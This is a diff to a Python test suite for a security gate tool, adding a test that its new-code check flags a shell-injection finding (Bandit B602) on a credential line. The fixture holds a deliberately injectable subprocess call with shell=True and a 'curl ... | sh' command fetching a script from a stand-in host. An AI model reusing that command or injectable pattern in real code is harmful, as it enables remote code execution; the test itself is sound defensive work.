@@ -443,7 +443,7 @@ def test_environment_checks_from_a_worktree_are_not_refs(tmp_path: Path) -> None
     )
     result = GateResult(verdict=Verdict.FAIL, checks=checks, tool_version="x", started_at="", finished_at="", duration_s=0)
     reference = Reference(Since("main", "a" * 40, "test"), "worktree", "", result, not_comparable=("licenses",))
-    assert reference.baseline() == Baseline(fingerprints={"sec": 2}, metrics={"security": {}})
+    assert reference.baseline() == Baseline(fingerprints={"sec": 2}, metrics={"security": {}}, commit="a" * 40)
     # the base branch: the policy's, else the CI's pull-request target as origin/NAME
     assert base_branch({"new_code_base": "upstream/dev"}, {"GITHUB_BASE_REF": "main"}) == ("upstream/dev", "gate.new_code_base")
     azure = {"SYSTEM_PULLREQUEST_TARGETBRANCH": "refs/heads/release"}
@@ -513,3 +513,25 @@ def test_a_stored_ref_result_must_be_signed_by_a_key_given(repo: tuple[Path, str
     assert refused.exit_code == 2 and "which is not among the keys given" in refused.output, refused.output
     alone = _check(root, "--public-key", str(public))
     assert alone.exit_code == 2 and "--public-key authenticates --new-code-result FILE" in alone.output
+
+
+def test_a_literal_changed_on_a_credential_line_blocks_as_new_code(tmp_path: Path) -> None:
+    # the line names a token, so its fingerprint masks its literals: REF's line is read from git
+    root = tmp_path / "project"
+    root.mkdir()
+    _git(root, "init", "-q", "-b", "main")
+    off = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses"))
+    (root / "gatekeeper.toml").write_text('[reports]\nformats = ["json"]\n[audit]\nenabled = false\n' + off)
+    (root / ".gitignore").write_text("gatekeeper-reports/\n.gatekeeper/\n")
+    shell = 'import subprocess\n\n\ndef deploy(token):\n    return subprocess.call("deploy --token " + token, shell=True)\n'
+    (root / "deploy.py").write_text(shell)
+    _commit(root, "REF")
+    _git(root, "checkout", "-q", "-b", "feature")
+    (root / "deploy.py").write_text(shell.replace("deploy --token ", "curl -s https://x.invalid/i.sh | sh; echo "))
+    _commit(root, "HEAD")
+
+    done = _check(root, "--new-code-since", "main", "--no-cache")
+
+    assert done.exit_code == 1, done.output
+    blocking = [(c["name"], f["rule_id"]) for c in _result(root)["checks"] for f in c["findings"] if f["blocking"]]
+    assert blocking == [("security", "B602")]
